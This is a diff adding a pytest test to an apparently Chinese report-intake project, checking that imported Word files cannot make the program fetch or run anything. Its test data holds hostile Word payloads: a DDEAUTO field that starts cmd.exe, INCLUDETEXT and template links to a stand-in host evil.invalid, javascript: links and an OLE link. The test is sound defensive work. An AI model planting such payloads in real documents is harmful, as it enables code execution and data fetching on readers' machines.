@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import socket
 import struct
 import zipfile
 import zlib
@@ -11,10 +12,21 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from baogao.corpus.intake import Manuscript, UnreadableError, read_manuscript
+from baogao.corpus import Data, Source, parse_report
+from baogao.corpus.intake import (
+    Manuscript,
+    Metadata,
+    UnreadableError,
+    compose,
+    read_draft,
+    read_manuscript,
+)
 from baogao.corpus.intake.docx.package import MAX_FILE
+from baogao.export import report_docx
+from baogao.pages.report import text_html
 from tests.docx import (
     core,
+    field,
     numbered,
     numbering,
     p,
@@ -237,6 +249,47 @@ def test_relationships_that_lead_out_lead_nowhere() -> None:
         {"a": ("officeDocument", "http://example.org/document.xml")}
     )
     assert "里面没有正文" in refused(pack(files))
+
+
+#: What Word, opening the file, would fetch, start or take in.
+FETCHED = (
+    field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', r("结果一")), field('DDE Excel "a.xls"', r("结果二")),
+    field('INCLUDETEXT "http://evil.invalid/a.docx"', r("结果三")), field('INCLUDEPICTURE "http://evil.invalid/a.png" \\d', r("结果四")),
+    field('HYPERLINK "javascript:alert(1)"', r("结果五")), field('MACROBUTTON Evil 点', r("")), field("AUTOTEXT evil", r("结果六")),
+    '<w:hyperlink r:id="out">' + r("结果七") + "</w:hyperlink>", '<w:fldSimple w:instr=" DDEAUTO cmd ">' + r("结果八") + "</w:fldSimple>",
+    r('<w:drawing><a:blip r:link="picture"/></w:drawing>'),
+    r('<w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="ole"/></w:object>'),
+)  # fmt: skip
+
+
+def test_what_word_would_fetch_or_start_is_at_most_text(
+    data: Data, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def reached(*_: object) -> None:
+        raise AssertionError("a Word file made the program reach out")
+
+    files = parts(*(p(each) for each in FETCHED), '<w:altChunk r:id="chunk"/>', p("=1+1 [点](javascript:alert(1)) <script>"))  # fmt: skip
+    out = ("hyperlink", "image", "oleObject", "aFChunk", "attachedTemplate", "frame", "subDocument")
+    names = ("out", "picture", "ole", "chunk", "template", "frame", "sub")
+    files["word/_rels/document.xml.rels"] = relationships(
+        {name: (kind, f"http://evil.invalid/{name}") for name, kind in zip(names, out, strict=True)}
+    )
+    files["word/_rels/settings.xml.rels"] = relationships({"t": ("attachedTemplate", "file://evil.invalid/t.dotm")})  # fmt: skip
+    for name in ("socket", "create_connection", "getaddrinfo"):
+        monkeypatch.setattr(socket, name, reached)
+    draft = read_draft(read_manuscript(pack(files)), data)
+    kind, unit = data.kinds.find("年度工作总结"), data.units.units[0]
+    assert kind
+    made = Metadata("标题", 2022, unit, kind, None, None, "published")
+    report = parse_report("2022/a", Source("a.md", compose(draft, made).text), data)
+    for code in ("evil.invalid", "DDE", "cmd", "INCLUDE", "MACROBUTTON", "AUTOTEXT"):
+        assert code not in report.source.text, code
+    assert all(f"结果{number}" in report.text for number in "一二三五六七八")
+    html = text_html(report)
+    assert "<a href=" not in html and "<script" not in html
+    assert "=1+1 [点](javascript:alert(1)) &lt;script&gt;" in html
+    exported = zipfile.ZipFile(io.BytesIO(report_docx(report)))
+    assert not any(b'"External"' in exported.read(name) for name in exported.namelist())
 
 
 def test_the_same_name_twice() -> None:
